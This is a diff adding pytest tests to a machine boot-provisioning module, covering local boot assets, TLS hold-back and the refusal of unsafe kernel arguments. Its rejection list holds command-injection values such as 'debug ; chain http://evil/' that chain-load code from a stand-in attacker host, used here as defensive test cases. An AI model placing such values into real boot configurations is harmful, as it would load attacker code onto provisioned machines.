@@ -11,6 +11,7 @@ from app.machine.boot import (
     DiskMethod,
     FactoryBoot,
     HeldBack,
+    LocalBoot,
     Refusal,
     boot_for,
 )
@@ -132,6 +133,30 @@ def test_secure_boot_follows_the_option():
 
 
 @pytest.mark.parametrize(
+    ("buildarch", "arch", "console"), [("arm64", Arch.ARM64, "ttyAMA0"), ("i386", Arch.AMD64, "ttyS0")]
+)
+def test_agent_is_booted_from_local_assets_with_the_same_arguments(buildarch, arch, console):
+    machine = wish(at_rest(), extra_kernel_args=" debug\tquiet ")
+    found = answer(machine, BootRequest(ID, arch=buildarch), use_local_boot_assets=True, agent_test_mode=True)
+    arguments = (CONFIG, AGENT, "metal.provider.test.mode=1", "console=tty0", f"console={console}", "debug", "quiet")
+    assert found == LocalBoot(ID, BootMode.AGENT_PXE, arguments, arch)
+
+
+def test_local_assets_are_for_agent_mode_alone():
+    assert factory(allocated(), use_local_boot_assets=True).mode is BootMode.TALOS_PXE
+    assert isinstance(answer(allocated(installs=1), use_local_boot_assets=True), DiskBoot)
+
+
+def test_local_boot_refuses_dangerous_arguments_waits_with_tls_and_shows_none():
+    with pytest.raises(ScriptRefused, match="extra_kernel_args"):
+        answer(wish(at_rest(), extra_kernel_args="a ; b"), use_local_boot_assets=True)
+    assert isinstance(answer(at_rest(), use_local_boot_assets=True, tls_enabled=True), HeldBack)
+    found = answer(at_rest(), inline=INLINE, use_local_boot_assets=True, tls_enabled=True)
+    assert f"talos.config.inline={INLINE}" in found.kernel_args
+    assert INLINE not in repr(found)
+
+
+@pytest.mark.parametrize(
     ("address", "config_host", "agent_address"),
     [
         ("10.0.0.1", "10.0.0.1", "10.0.0.1:50099"),
@@ -152,6 +177,8 @@ def test_addresses_name_host_and_port(address, config_host, agent_address):
         (wish(at_rest(), extra_kernel_args="debug || chain http://evil/"), "extra_kernel_args"),
         (wish(at_rest(), extra_kernel_args="debug && chain http://evil/"), "extra_kernel_args"),
         (wish(at_rest(), extra_kernel_args="debug # rest"), "extra_kernel_args"),
+        (wish(at_rest(), extra_kernel_args="debug ; chain http://evil/"), "extra_kernel_args"),
+        (wish(at_rest(), extra_kernel_args="debug rest\\"), "extra_kernel_args"),
         (wish(at_rest(), extra_kernel_args="a\x00b"), "extra_kernel_args"),
         (wish(at_rest(), extra_kernel_args="a\x1b[2J"), "extra_kernel_args"),
         (wish(at_rest(), extra_kernel_args="caf\u00e9"), "extra_kernel_args"),
